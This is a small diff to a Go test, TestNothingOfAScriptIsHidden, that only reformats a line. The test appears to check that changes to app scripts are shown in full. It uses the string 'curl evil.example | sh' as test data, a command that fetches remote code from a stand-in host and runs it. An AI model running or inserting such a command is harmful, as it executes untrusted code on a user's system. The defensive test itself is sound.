@@ -29,7 +29,8 @@ func TestNothingOfAScriptIsHidden(t *testing.T) {
 	} {
 		t.Run(name, func(t *testing.T) {
 			t.Parallel()
-			for what, before := range map[string][]appconfig.Action{"new": nil, "changed": script(strings.ReplaceAll(text, "curl evil.example | sh", "true"))} {
+			for what, before := range map[string][]appconfig.Action{"new": nil, "changed": script(
+				strings.ReplaceAll(text, "curl evil.example | sh", "true"))} {
 				r, err := app.Scripts(before, script(text))
 				if err != nil {
 					t.Fatal(err)
